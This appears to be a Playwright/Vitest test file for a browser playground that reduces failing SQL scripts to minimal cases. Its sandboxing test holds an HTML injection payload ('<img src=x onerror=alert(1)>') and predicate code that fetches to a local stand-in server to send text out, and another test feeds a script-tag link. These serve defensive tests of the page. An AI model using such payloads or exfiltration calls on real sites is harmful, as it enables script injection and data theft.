import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Job } from '../src/playground/job.js';
import { jobIn, linkTo } from '../src/playground/share-link.js';
import { accessibilityViolations, isBrowserAvailable, type OpenedPage, pageOpener } from './support/browser.js';
import { type StaticSite, serveFolder } from './support/static-site.js';

const SHOP_MINIMUM = "CREATE TABLE t (a INTEGER PRIMARY KEY);\nINSERT INTO t SELECT ''";
/** Fails in every engine of the family, with another message each. */
const CONVERSION = `CREATE TABLE t (a INTEGER, b VARCHAR);
INSERT INTO t VALUES (1, 'one'), (2, 'two');
SELECT b FROM t ORDER BY b;
SELECT count(*) FROM t WHERE CAST(b AS INTEGER) > 1;
`;
const MAX_MS = 110_000;

describe.runIf(isBrowserAvailable())('the playground', () => {
  const open = pageOpener();
  const folder = mkdtempSync(join(tmpdir(), 'minrepro-playground-'));
  let site: StaticSite;
  beforeAll(async () => {
    execFileSync(process.execPath, ['scripts/build-playground.mjs', folder]);
    site = await serveFolder(folder);
  }, 120_000);
  afterAll(() => {
    site.close();
    rmSync(folder, { recursive: true });
  });

  /** What went wrong in a page; requests to its own site are fine. */
  const problemsOf = ({ problems }: OpenedPage): string[] =>
    problems.filter((problem) => !problem.startsWith(`request: ${site.url}`) && !problem.startsWith('request: blob:'));

  const openJob = async (job: Job): Promise<OpenedPage> => {
    const opened = await open(await linkTo(job, site.url));
    await opened.page.getByText('The script comes from a link.').waitFor();
    return opened;
  };

  const reduceIn = async (page: Page): Promise<string> => {
    await page.getByRole('button', { name: 'Reduce', exact: true }).click();
    await page.locator('#result, [role=alert]').first().waitFor({ timeout: MAX_MS });
    expect(await page.locator('[role=alert]').allTextContents()).toEqual([]);
    return minimumIn(page);
  };

  it('reduces the bundled example, and shows what it did', async () => {
    const opened = await open(site.url);
    const { page } = opened;
    await page.getByLabel('Example').selectOption({ label: 'An error in a script of 46 statements' });
    await expect.poll(() => codeIn(page, 'Script that fails')).toContain('CREATE TABLE');
    // The whole form can be used by keyboard.
    await page.getByLabel('Text of the error').press('Enter');
    await page.locator('#result').waitFor({ timeout: MAX_MS });
    expect(await minimumIn(page)).toBe(SHOP_MINIMUM);
    expect(await page.getByText(/^958 → 15 tokens$/).count()).toBe(1);
    expect(await page.getByRole('img', { name: /^Size over calls: from 958 tokens to 15/ }).count()).toBe(1);
    expect(await page.getByRole('rowheader', { name: 'delete-statements' }).count()).toBe(1);
    await page.getByRole('button', { name: 'PRIMARY' }).first().click();
    expect(await page.locator('#without').textContent()).toContain('Passes without PRIMARY');
    const download = page.waitForEvent('download');
    await page.getByRole('link', { name: 'Download the script' }).click();
    expect((await download).suggestedFilename()).toBe('minimum.sql');
    expect(problemsOf(opened)).toEqual([]);
  });

  it('reduces a difference between two versions of SQLite', async () => {
    const opened = await open(site.url);
    const { page } = opened;
    await page.getByLabel('Example').selectOption({ label: 'A difference between two versions of SQLite' });
    expect(await reduceIn(page)).toBe('SELECT substr(CAST(9223372036854775807 AS REAL), 2)');
    expect(await page.getByLabel('Expected output of the minimum').textContent()).toContain('.2233720368547758e+18');
    expect(await page.getByLabel('Actual output of the minimum').textContent()).toBe('.22337203685478e+18\n');
    expect(problemsOf(opened)).toEqual([]);
  });

  it.each([
    ['pglite', 'PostgreSQL', /invalid input syntax for type integer/],
    ['duckdb', 'DuckDB', /Could not convert string/],
  ] as const)('reduces an error of %s', async (engine, product, message) => {
    const opened = await openJob({ text: CONVERSION, engine, failure: { kind: 'error', text: '' }, explains: false });
    expect(await reduceIn(opened.page)).toMatch(/^SELECT CAST ?\(.{1,60}$/);
    const title = opened.page.locator('h2.title');
    expect(await title.textContent()).toContain(product);
    expect(await title.textContent()).toMatch(message);
    expect(problemsOf(opened)).toEqual([]);
  });

  it('explains a violated relation', async () => {
    const opened = await open(site.url);
    const { page } = opened;
    await page.getByLabel('Example').selectOption({ label: 'A wrong result, found without a second engine' });
    expect(await reduceIn(page)).toContain('IS NOT 1');
    expect(await page.getByLabel('the pattern').textContent()).toContain('IS NOT <any value but NULL>');
    expect(await page.getByText('These queries contradict each other').count()).toBe(1);
    expect(problemsOf(opened)).toEqual([]);
  });

  it('ends a predicate that does not end, and goes on', async () => {
    const { page } = await open(site.url);
    await page.getByLabel('Engine', { exact: true }).selectOption('');
    await page.getByLabel('Script that fails').fill('one two\nthree\nfour\n');
    await page
      .getByLabel('Body of a function')
      .fill("if (text !== '' && !text.includes('one')) for (;;);\nreturn text.includes('three');");
    expect(await reduceIn(page)).toMatch(/^one\s+three$/);
  });

  it('stops, and keeps what it has', async () => {
    const { page } = await open(site.url);
    await page.getByLabel('Engine', { exact: true }).selectOption('');
    await page.getByLabel('Script that fails').fill(Array.from({ length: 500 }, (_, i) => `line ${i}`).join('\n'));
    await page.getByLabel('Body of a function').fill('return true;');
    await page.getByRole('button', { name: 'Reduce', exact: true }).click();
    await page.locator('[role=alert]').filter({ hasText: 'An empty script fails as well' }).waitFor();
    const needs = 'const lines = text.split("\\n"); return lines.length > 90 && lines.includes("line 7");';
    await page.getByLabel('Body of a function').fill(`await new Promise((done) => setTimeout(done, 20)); ${needs}`);
    await page.getByRole('button', { name: 'Reduce', exact: true }).click();
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.getByText('Stopped.').waitFor();
    await page.locator('#result').waitFor();
    expect((await minimumIn(page)).split('\n').length).toBeGreaterThan(90);
  });

  it('shares a script by a link, which loads without running anything', async () => {
    const { page } = await open(site.url);
    await page.getByLabel('Script that fails').fill("SELECT '<b>ü</b>' FROM nowhere;");
    await page.getByLabel('Engine', { exact: true }).selectOption('sqlite@3.30.1');
    await page.getByLabel('Text of the error').fill('no such table');
    await page.getByRole('button', { name: 'Link to this script' }).click();
    await page.getByText(/The link/).waitFor();
    const link = page.url();
    expect(await jobIn(new URL(link).hash)).toEqual({
      text: "SELECT '<b>ü</b>' FROM nowhere;",
      engine: 'sqlite@3.30.1',
      failure: { kind: 'error', text: 'no such table' },
      explains: false,
    });
    const opened = await open(link);
    const second = opened.page;
    await expect.poll(() => codeIn(second, 'Script that fails')).toContain('<b>ü</b>');
    expect(await second.getByLabel('Engine', { exact: true }).inputValue()).toBe('sqlite@3.30.1');
    expect(await second.locator('#result').count()).toBe(0);
    expect(await reduceIn(second)).toMatch(/^SELECT .* FROM \w+;?$/);
    expect(problemsOf(opened)).toEqual([]);
  });

  it('runs the code of a link only after someone has agreed, and lets it reach no other site', async () => {
    const visits: string[] = [];
    const other = createServer((request, response) => {
      visits.push(request.url ?? '');
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const address = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
    const code = `try { await fetch('${address}?' + text); } catch { return text.includes('secret'); }
return false;`;
    try {
      const { page } = await openJob({
        text: '<img src=x onerror=alert(1)>\nsecret\n',
        failure: { kind: 'predicate', code },
        explains: false,
      });
      const dialogs: string[] = [];
      let isAgreed = false;
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        if (isAgreed) dialog.accept();
        else dialog.dismiss();
      });
      // The editor is loaded later than the page.
      await expect.poll(() => codeIn(page, 'Body of a function')).toBe(code);
      await page.getByRole('button', { name: 'Reduce', exact: true }).click();
      expect(dialogs).toHaveLength(1);
      expect(dialogs[0]).toContain(code);
      expect(await page.getByText('Starting').count()).toBe(0);
      isAgreed = true;
      expect(await reduceIn(page)).toBe('secret');
      expect(dialogs).toHaveLength(2);
      expect(await page.locator('#result img').count()).toBe(0);
      expect(visits).toEqual([]);
    } finally {
      other.close();
    }
  });

  it('highlights what is written, in the words of the engine, and predicates', async () => {
    const opened = await openJob({
      text: "SELECT unhex('00'), nullif(1, 2) FROM t; -- it's\n",
      engine: 'sqlite',
      failure: { kind: 'predicate', code: 'return text !== null;' },
      explains: false,
    });
    const { page } = opened;
    const marked = (label: string, kind: string): Promise<string[]> =>
      page.getByLabel(label).locator(`.${kind}`).allTextContents();
    await page.getByLabel('Script that fails').locator('.keyword').first().waitFor();
    expect(await marked('Script that fails', 'keyword')).toEqual(['SELECT', 'FROM']);
    expect(await marked('Script that fails', 'string')).toEqual(["'00'"]);
    expect(await marked('Script that fails', 'comment')).toEqual(["-- it's"]);
    expect(await marked('Body of a function', 'keyword')).toEqual(['return', 'null']);
    // Without an engine the text may be anything.
    await page.getByLabel('Engine', { exact: true }).selectOption('');
    await expect.poll(() => marked('Script that fails', 'keyword')).toEqual([]);
    expect(problemsOf(opened)).toEqual([]);
  });

  it('takes a long script at once, keeps every key, and undoes', async () => {
    const opened = await open(site.url, { permissions: ['clipboard-read', 'clipboard-write'] });
    const { page } = opened;
    const script = page.getByLabel('Script that fails');
    await page.locator('.cm-editor').first().waitFor();
    const text = `-- begins here\n${"INSERT INTO t VALUES (1, 'one');\n".repeat(31_250)}SELECT 1;`;
    await page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(text)})`);
    await script.focus();
    await page.keyboard.press('Control+V');
    await page.keyboard.press('Control+End');
    await page.keyboard.type(' SELECT missing;');
    expect(await script.locator('.cm-line').last().textContent()).toBe('SELECT 1; SELECT missing;');
    await page.keyboard.press('Control+Home');
    await expect.poll(() => script.locator('.comment').allTextContents()).toEqual(['-- begins here']);
    // Only the lines in view are in the page.
    expect(await script.locator('.cm-line').count()).toBeLessThan(200);
    await page.keyboard.press('Control+Z');
    await page.keyboard.press('Control+Z');
    expect(await script.locator('.cm-placeholder').count()).toBe(1);
    // What an example replaces can be brought back, too.
    await page.keyboard.type('SELECT mine;');
    await page.getByLabel('Example').selectOption({ label: 'A difference between two versions of SQLite' });
    await expect.poll(() => codeIn(page, 'Script that fails')).toContain('CREATE TABLE');
    await script.focus();
    await page.keyboard.press('Control+Z');
    await expect.poll(() => codeIn(page, 'Script that fails')).toBe('SELECT mine;');
    // The key Tab is not caught.
    await page.keyboard.press('Tab');
    expect(await page.getByLabel('Engine', { exact: true }).evaluate('document.activeElement.id')).toBe('engine');
    expect(problemsOf(opened)).toEqual([]);
  });

  it('has a plain text field until the editor is loaded, and without it', async () => {
    const { page } = await open('about:blank');
    let load = (): void => {};
    const isAllowed = new Promise<void>((resolve) => {
      load = resolve;
    });
    await page.route(/code-editor/, async (route) => {
      await isAllowed;
      await route.continue();
    });
    await page.goto(site.url);
    const field = page.locator('textarea#script');
    await field.fill('SELECT 12;');
    await field.evaluate('document.activeElement.setSelectionRange(8, 8)');
    load();
    await page.locator('.cm-editor').first().waitFor();
    await page.keyboard.type('.5');
    await expect.poll(() => codeIn(page, 'Script that fails')).toBe('SELECT 1.52;');

    await page.unroute(/code-editor/);
    await page.route(/code-editor/, (route) => route.abort());
    await page.reload();
    await field.fill('SELECT missing;');
    expect(await reduceIn(page)).toBe('SELECT missing');
  });

  it('says so if a link cannot be read', async () => {
    const opened = await open(`${site.url}#job=%00%3Cscript%3E`);
    await opened.page.getByText('The link does not contain a script that can be read.').waitFor();
    expect(problemsOf(opened)).toEqual([]);
  });

  it.each([
    ['light', 1200],
    ['dark', 1200],
    ['light', 360],
  ] as const)('is accessible in the %s theme at %i pixels', async (colorScheme, width) => {
    const { page } = await open(site.url, { colorScheme, viewport: { width, height: 900 } });
    expect(await accessibilityViolations(page)).toEqual([]);
    await page.getByLabel('Example').selectOption({ label: 'A difference between two versions of SQLite' });
    await reduceIn(page);
    expect(await accessibilityViolations(page)).toEqual([]);
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
  });
});

/** The text of a short field for code. */
async function codeIn(page: Page, label: string): Promise<string> {
  return (await page.getByLabel(label).locator('.cm-line').allTextContents()).join('\n');
}

async function minimumIn(page: Page): Promise<string> {
  return ((await page.getByLabel('the minimum', { exact: true }).textContent()) ?? '').trimEnd();
}
